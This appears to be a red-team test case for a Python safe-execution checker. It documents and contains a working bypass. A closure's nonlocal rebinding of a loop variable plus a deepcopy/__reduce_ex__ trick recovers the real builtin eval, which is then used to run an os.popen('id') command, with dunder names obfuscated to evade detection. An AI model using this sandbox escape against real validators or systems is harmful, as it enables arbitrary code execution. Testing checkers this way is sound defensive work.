# expect: reject builtin
# why: twenty-third red team, round e: a judged loop target (literal names, a module-level tuple, **kwargs keys) rebound while the body runs by a closure declaring it nonlocal (called in the body or by the library): a name declared global or nonlocal anywhere is no judged source
# line: 29
# goal: the REAL builtin `eval` as a value; runs `id` through it.
# mechanism: as ok_01 with the third judged source, a module-level tuple of literal names bound
#   once (`for k in NAMES:`); the closure's `nonlocal k` rebinding is called in the body.
# rule slipped: builtin (names.c loop_over_plain_names -> module_plain_names): the tuple is
#   indeed bound once, but the loop TARGET is re-bound by the closure; the body census misses it.
# verify: safe-exec-check rc=0; python3 prints <built-in function eval> and uid=...
import copy
import typing

NAMES = ("plain", "other")


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Box:
    def put(self, v):
        def swap():
            nonlocal k
            k = "--reduce-ex--".replace("-", "_")

        for k in NAMES:
            if k == "plain":
                swap()
                setattr(self, k, v)
                break


b = Box()
b.put(red)
ev = copy.deepcopy(copy.deepcopy(b))
print(ev)
print(ev("__import__('os').popen('id').read()"), end="")
